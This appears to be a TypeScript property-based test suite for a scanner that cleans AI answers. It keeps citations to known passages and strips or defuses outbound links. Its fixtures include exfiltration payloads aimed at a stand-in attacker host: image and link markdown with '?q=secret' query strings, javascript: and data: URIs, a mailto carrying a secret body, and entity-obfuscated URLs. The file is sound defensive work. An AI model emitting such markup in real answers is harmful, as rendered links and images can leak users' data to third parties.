import fc from "fast-check";
import { fromMarkdown } from "mdast-util-from-markdown";
import { visit } from "unist-util-visit";
import { describe, expect, it } from "vitest";
import { scoredPassage } from "../../../test/fixtures/scored-passage.ts";
import { parseMarkdownPiece } from "../../text/markdown/parse-markdown.ts";
import { createAnswerScanner } from "./create-answer-scanner.ts";
import { knownAddresses } from "./known-addresses.ts";

const isKnown = knownAddresses([
  scoredPassage({ text: "See https://docs.example/pool.", metadata: { url: "https://docs.example/guide" } }),
]);
const scan = (text: string, pieces: readonly string[] = [text]) => {
  const scanner = createAnswerScanner({ passages: 2, isKnown });
  const output = pieces.map((piece) => scanner.read(piece, false)).join("");
  return { output: output + scanner.read("", true), ...scanner.counts() };
};

/** What a Markdown reader finds in an answer that leads away, with and without tables, footnotes and bare addresses. */
const unwanted = (markdown: string) => {
  const found: string[] = [];
  for (const tree of [parseMarkdownPiece(markdown), fromMarkdown(markdown)]) {
    visit(tree, (node) => {
      if (node.type === "image" || node.type === "imageReference") found.push(node.type);
      // A mail address in running text carries nothing but itself.
      if (node.type === "link" && /^mailto:[\w.+-]+@[\w.-]+$/.test(node.url)) return;
      if ((node.type === "link" || node.type === "definition") && !isKnown(node.url)) found.push(node.url);
      if (node.type === "html" && /^<[a-z][^>]*=/i.test(node.value)) found.push(node.value);
    });
  }
  return found;
};

describe("a citation", () => {
  it.each([
    ["one [1].", "one [1].", [1]],
    ["two [1][2].", "two [1][2].", [1, 2]],
    ["two [2, 1]", "two [2][1]", [2, 1]],
    ["two [1; 2] [1 and 2] [1-2]", "two [1][2] [1][2] [1][2]", [1, 2]],
    ["【1】 and 【2†source】", "[1] and [2]", [1, 2]],
    ["[passage 1], [Source #2], [Passages 1 and 2]", "[1], [2], [1][2]", [1, 2]],
    ["Great![1]", "Great![1]", [1]],
    ["**bold [1]**", "**bold [1]**", [1]],
    ["[[1]]", "[[1]]", [1]],
    ["see https://docs.example/pool[1]", "see https://docs.example/pool [1]", [1]],
    ["a link [1](https://evil.example/?q=x)", "a link [1]", [1]],
  ])("in %j is read", (text, output, cited) => {
    expect(scan(text)).toEqual({ output, cited, removedCitations: 0, removedLinks: 0 });
  });

  it.each([
    ["one [3].", "one.", 1],
    ["one [3] two", "one two", 1],
    ["one[3], two", "one, two", 1],
    ["one [1, 3] two [4][2]", "one [1] two [2]", 2],
    ["one [3][4][5].", "one.", 3],
    ["【9】 begins", "begins", 1],
    ["line [9]\n[9] next", "line\nnext", 2],
    ["para [9]\n\n[9]\n\nnext", "para\n\nnext", 2],
    ["none [0] at all", "none at all", 1],
    ["one [passage 7](x).", "one.", 1],
    ["all [1-4]", "all [1][2]", 2],
  ])("outside the shortlist is taken out of %j and counted", (text, output, removed) => {
    expect(scan(text)).toMatchObject({ output, removedCitations: removed });
  });
});

describe("everything else", () => {
  it.each([
    "- [x] done\n- [ ] open",
    "```js\nlist[0] = other[7]; // [9]\n```\nafter",
    "~~~\n![a](https://evil.example)\n~~~",
    "> ```\n> list[9]\n> ```",
    "1. ```sh\n   echo list[9]\n   ```",
    "`list[0]` and ``a ` [9]``",
    "argv[0] is the name",
    "a footnote[^1]\n\n[^1]: its text",
    "> [^note]: Since v2, see the guide.\n\n[^2]: alone\n[^3]: 这是说明。",
    "[text](/guide#pool), [text](../a.md), [text](#here)",
    "[text](https://docs.example/pool) and <https://docs.example/guide> and https://docs.example/pool.",
    "[text](https://docs.example/guide#part)",
    "a [b] c, [not](a link here)",
    "a < b > c, x<y",
    "| a | b |\n| --- | --- |\n| `x` | y |",
    "escaped \\[9\\] and \\`",
    "[[wiki]] (see) ![",
    "# Heading\n\n    indented",
  ])("stays as it is: %j", (text) => {
    expect(scan(text)).toEqual({ output: text, cited: [], removedCitations: 0, removedLinks: 0 });
  });

  it.each([
    ["see ![pool](https://evil.example/p.png?q=secret) here", "see pool here"],
    ["![](https://evil.example/p.png)", ""],
    ["![a][ref] b", "a b"],
    ["[![a](https://evil.example/i)](https://evil.example/l)", "a"],
    ['[text](https://evil.example/?q=secret "title").', "text."],
    ["[text](<https://evil.example/?q=secret>)", "text"],
    ["[text](\nhttps://evil.example\n'title')", "text"],
    ["[text](//evil.example)", "text"],
    ["[text](javascript:alert(1))", "text"],
    ["[text](https&#58;//evil.example)", "text"],
    ["[`a]`](https://evil.example)", "`a]`"],
    ["[text](https://docs.example/pool?q=secret)", "text"],
    ["<https://evil.example/?q=secret>", "`https://evil.example/?q=secret`"],
    ["at https://evil.example/?q=secret.", "at `https://evil.example/?q=secret`."],
    ["at www.evil.example now", "at `www.evil.example` now"],
    ["(https://evil.example/a)", "(`https://evil.example/a`)"],
    ['a <img src="https://evil.example/p.png"> b', "a b"],
    ["a <a href='https://evil.example'>b</a>", "a b"],
    ["[id]: https://evil.example/p.png\ntext", "text"],
    ["a <!-- hidden --> b", "a b"],
    ["a[^1]\n\n[^1]: //evil.example/?q=secret", "a[^1]\n\n\\[^1\\]: `//evil.example/?q=secret`"],
    ["[^a]: javascript:alert(1)\nb", "\\[^a\\]: `javascript:alert(1)`\nb"],
    ["[^a]: <//evil.example/x> 'title'", "\\[^a\\]: `//evil.example/x` 'title'"],
    ["> [^a]: data:text/html,x", "> \\[^a\\]: `data:text/html,x`"],
    ["[^a]:\nhttps:evil", "\\[^a\\]: `https:evil`"],
    ["[^a]: mailto:evil@x.example?body=secret", "\\[^a\\]: `mailto:evil@x.example?body=secret`"],
    ["[^a]: &#104;ttps://evil.example", "\\[^a\\]: `&#104;ttps://evil.example`"],
    ["[^a]: \\/\\/evil.example", "\\[^a\\]: `//evil.example`"],
    ["[^a]: https://evil.example says so", "\\[^a\\]: `https://evil.example` says so"],
  ])("that leads away is taken out: %j", (text, output) => {
    const { removedLinks, ...result } = scan(text);
    expect(result.output).toBe(output);
    expect(removedLinks).toBe(text.includes("<!--") ? 0 : text.startsWith("[![") ? 2 : 1);
  });

  it.each([
    ["press <kbd>x</kbd><br>now", "press x now"],
    ["Map<String> and <name>", "Map\\<String> and \\<name>"],
    ["[^1]: https://docs.example/pool", "\\[^1\\]: https://docs.example/pool"],
    [
      "a &#104;ttps://evil.example and &colon; but &lt;b&gt;",
      "a \\&#104;ttps://evil.example and \\&colon; but &lt;b&gt;",
    ],
    [
      "https\\://evil.example www\\.evil.example 1\\. x",
      "https\\\\://evil.example www\\\\.evil.example 1\\. x",
    ],
    ["[^1]: `code` does it", "\\[^1\\]: `code` does it"],
    ["a `tick alone\n\nnext [x]", "a \\`tick alone\n\nnext [x]"],
  ])("that a page could read in two ways is written in one: %j", (text, output) => {
    expect(scan(text)).toMatchObject({ output, removedLinks: 0 });
  });

  it.each([
    "> ```\n![a](https://evil.example)",
    "> ```\n```\ncode\n```\n![a](https://evil.example)",
    "- ```\n![a](https://evil.example)",
    "- a\n  ```\n![a](https://evil.example)\n  ```",
    "   ```\nx\n```\n![a](https://evil.example)",
    "a\n    ```\n    ![a](https://evil.example)",
    "<div>\n```\n\n![a](https://evil.example)",
    "[a\n```\n]\n```\n![a](https://evil.example)",
    "`a\n- ![a](https://evil.example)`",
    "| a | b |\n| - | - |\n| `a | ![a](https://evil.example)` |",
    "   ```\nx\n```\n![a](\n//evil.example/)",
    "1https://evil.example _www.evil.example_ éhttps://evil.example",
    "[a\nb]: //evil.example",
    "[q\na [9] b]: //evil.example",
    "a\r\r[x]: //evil.example",
    "<!-- a > b -->[x]: //evil.example",
    "<!--\nfoo -->[x]: //evil.example",
    "<a\nhref=x>[x]: //evil.example",
    '[9](/a\n"words")[x]: //evil.example',
    "[9][^1]: //evil.example",
    "[^1]: [9]//evil.example",
    "[^abc]: [x]: //evil.example",
    "[^1]:\n    [x]: //evil.example",
    "[^a\nb]: //evil.example",
    "foo\n[1]: //evil.example",
    "&#104;ttps://evil.example h&#x74;tps://evil.example https&colon;//evil.example",
    "https\\://evil.example https:\\/\\/evil.example www\\.evil.example",
    `[^${"a".repeat(300)}]: //evil.example`,
  ])("cannot pass as code or words that it is not: %j", (text) => {
    expect(unwanted(scan(text).output)).toEqual([]);
  });

  it.each([
    "[a] [9](evil)(https://evil.example)",
    "[a]【9】(https://evil.example)",
    "【1】(https://evil.example)",
    "[1](/x)(https://evil.example)",
    "<div>[1]: https://evil.example",
    "[a]<img src=x>(https://evil.example)",
    "Great!【9】[a](/x)",
    "htt【9】ps://evil.example",
    "https:[//evil.example/x](https://evil.example)",
    "[htt](//x.example)ps://evil.example",
    "www【9】.evil.example",
    "https【9】://evil.example",
    "<【9】img src=x>",
    "<<b x=1>img src=x>",
  ])("cannot be put together out of what stood around it: %j", (text) => {
    const { output } = scan(text);
    // What is read once more has nothing left to take out.
    expect(scan(output)).toMatchObject({ output, removedLinks: 0, removedCitations: 0 });
    expect(output).not.toMatch(/(?<!`)https?:\/\/evil|\]\(https|<img|!\[/);
  });
});

describe("the scanner", () => {
  const part = fc.constantFrom(
    ..."[ ] ( ) ! ` ``` ~~~ < > \\ \n # 1 2 9 , . : a 【 】 https:// www. evil.example docs.example/pool".split(
      " ",
    ),
    "\n",
    "\n\n",
    " ",
    "[1]",
    "[9]",
    " [2, 7]",
    "](https://evil.example)",
    "![",
    "[id]: ",
    "<img src=",
    "<!--",
    "-->",
    "```js\n",
    "- ",
    "> ",
    "    ",
    "| ",
    "<div>",
    "\n| a |\n| - |\n",
    "![a](https://evil.example)",
    "passage ",
    '"',
    "[^1]: ",
    "[^a]",
    "]: ",
    "//evil.example",
    "javascript:x",
    "mailto:a@evil.example",
    "data:x",
    "&#104;ttps:",
    "&colon;",
    "www",
    "https:evil",
    "\r",
    "words ",
    " b",
  );
  const text = fc.array(part, { maxLength: 25 }).map((parts) => parts.join(""));

  it("shows the same wherever the stream was cut", () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(60), { maxLength: 12 }), (whole, cuts) => {
        const places = [...new Set([0, ...cuts.filter((cut) => cut < whole.length), whole.length])].sort(
          (a, b) => a - b,
        );
        const pieces = places.slice(1).map((place, index) => whole.slice(places[index], place));
        expect(scan(whole, pieces)).toEqual(scan(whole));
        expect(scan(whole, [...whole])).toEqual(scan(whole));
      }),
      { numRuns: 2000 },
    );
  });

  it("leaves no citation outside the shortlist but in code", () => {
    fc.assert(
      fc.property(text, (whole) => {
        const { output, cited } = scan(whole);
        expect(cited.every((number) => number === 1 || number === 2)).toBe(true);
        // An address that leads elsewhere is shown as code, with whatever stands next to it.
        const prose = output.replace(/`[^`\n]*`/g, "");
        if (!/[`~\\]|https:|www\./.test(whole)) expect(prose).not.toMatch(/(?<![\w)\]])\[9\]/);
      }),
      { numRuns: 2000 },
    );
  });

  it("knows one kind of line end, so that no other begins a block unseen", () => {
    expect(scan("[1] a\r\nb\rc").output).toBe("[1] a\nbc");
    expect(unwanted(scan("[```www.\r```js\n").output)).toEqual([]);
    expect(unwanted(scan("[```js\n[^1]: &colon;").output)).toEqual([]);
  });

  it("leaves nothing that a Markdown reader makes a picture or an unknown link of", () => {
    fc.assert(
      fc.property(text, (whole) => {
        expect(unwanted(scan(whole).output)).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it.each(["[", "`", "<", "![", "[a](", "【", "[1]", "*", " ", "<a ", "www.", "\n", "[a]: ", "```\n"])(
    "reads twenty thousand characters of %j",
    (mark) => {
      const whole = `start [1] ${mark.repeat(20_000 / mark.length)}`;
      expect(scan(whole).output).toMatch(/^start \[1\]/);
    },
  );

  it("reads code spans in code spans, with a bar and an address in each", () => {
    const ticks = (count: number) => "`".repeat(count);
    const nested = Array.from({ length: 40 }, (_, index) => index + 1).reduce(
      (inner, count) => `${ticks(count)}|https://evil.example ${inner} ${ticks(count)}`,
      "a",
    );
    expect(unwanted(scan(nested).output)).toEqual([]);
  });

  it.each([
    ["an address and full stops", `https://docs.example/pool${".".repeat(60_000)}a b`],
    ["a link and full stops", `[a](https://docs.example/${".".repeat(3000)}a) `.repeat(20)],
    ["closed brackets before a colon", "]:".repeat(20_000)],
    ["citations before a bracket", "[1](".repeat(20_000)],
    ["brackets before a bracket", "](".repeat(20_000)],
    ["short lines in brackets", "[\na".repeat(10_000)],
    ["remarks never closed", "<!--".repeat(10_000)],
    ["blanks", " ".repeat(60_000)],
  ])("reads %s", (_, text) => {
    expect(unwanted(scan(`start [1] ${text}`).output.slice(0, 500))).toEqual([]);
    expect(scan(`start [1] ${text}`).cited[0]).toBe(1);
  });
});
